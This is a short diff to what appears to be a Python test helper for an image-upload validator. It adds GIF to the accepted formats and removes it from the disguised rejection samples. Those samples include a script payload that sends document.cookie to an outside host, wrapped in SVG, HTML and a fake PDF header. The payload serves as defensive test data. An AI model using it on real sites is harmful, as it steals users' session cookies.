@@ -31,7 +31,7 @@ def _good(kind: str, width: int = 480, height: int = 320) -> bytes:
 
 
 def _any_good(rng: random.Random) -> tuple[str, bytes]:
-    kind, end = rng.choice((("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("TIFF", "tif")))
+    kind, end = rng.choice((("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("TIFF", "tif"), ("GIF", "gif")))
     return f"a.{end}", _good(kind)
 
 
@@ -127,12 +127,10 @@ def _huge(rng: random.Random) -> tuple[str, bytes]:
 
 def _in_disguise(rng: random.Random) -> tuple[str, bytes]:
     script = b"<script>fetch('https://example.org/'+document.cookie)</script>"
-    gif = encoded(a_picture(), "GIF", save_all=True, append_images=[a_picture(mode="L")])
     others = (
         b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()">' + script + b"</svg>",
         b"<!DOCTYPE html><html>" + script + b"</html>",
         b"%PDF-1.7\n" + script,
-        gif,
         encoded(a_picture(), "BMP"),
         encoded(a_picture(), "AVIF"),
         encoded(a_picture(), "ICO"),
